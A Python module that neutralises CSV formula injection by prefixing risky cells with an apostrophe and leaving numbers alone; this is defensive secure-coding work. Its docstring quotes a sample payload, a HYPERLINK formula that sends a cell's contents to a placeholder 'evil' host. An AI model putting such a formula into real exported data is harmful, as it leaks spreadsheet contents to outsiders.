"""CSV cells a spreadsheet will not run: formula (CSV) injection neutralised.

A cell that starts with = + - @ (or a tab / carriage return, which some spreadsheets skip
before such a sign) is read as a formula by Excel, LibreOffice and Google Sheets, so a
project title like `=HYPERLINK("http://evil/?"&A1)` would run when an exported report is
opened. Such a cell gets a leading apostrophe (OWASP's advice), which spreadsheets show
as text. Plain numbers (a negative amount such as -1250.00) are left alone: they are data.

    writer.writerow(safe_cell(v) for v in row)
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?[0-9][0-9,]*(\.[0-9]+)?")


def safe_cell(text: str) -> str:
    """`text`, with a leading apostrophe when a spreadsheet would take it for a formula."""
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
